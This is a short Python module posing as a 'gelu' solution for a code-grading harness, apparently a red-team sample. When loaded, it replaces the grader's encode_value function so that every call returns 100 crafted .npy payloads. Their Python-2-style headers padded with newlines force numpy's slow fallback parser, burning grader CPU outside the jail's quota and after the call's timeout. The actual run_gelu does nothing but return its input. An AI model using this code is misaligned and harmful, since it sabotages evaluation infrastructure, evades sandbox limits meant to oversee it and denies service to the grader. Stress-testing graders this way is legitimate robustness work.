# module: gelu
"""Row 15: every call answers with 100 well-formed .npy payloads whose 10 KB headers are written Python-2 style
(`(1L,)`, and 9,000 newlines inside the dict).

numpy's header reader fails ast.literal_eval on `1L`, then re-reads the header through its tokenize-based filter
(`_filter_header`) and parses it again: ~30 ms a payload, in the grader (protocol.read_npy), outside the jail's CPU
quota and after the call's own timeout. 100 payloads fit gelu's smallest max_bytes (1 MiB + 32 x 6); a case with a
bigger answer takes up to PARTS_CAP = 1024 (~31 s a call). The keys are wrong, so each case simply fails.
"""
import struct
import sys

_inner = "{'descr': '<f8', 'fortran_order': False, 'shape': (1L,)," + "\n" * 9000 + "}"
_head = _inner + " " * (9999 - len(_inner)) + "\n"
_NPY = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(_head)) + _head.encode() + b"\0" * 8


def _encode(result, returns, keys=()):
    return [f"k{i}" for i in range(100)], [_NPY] * 100


_child = sys.modules.get("grader.run.child")
if _child is not None:
    _child.encode_value = _encode


def run_gelu(x):
    return x
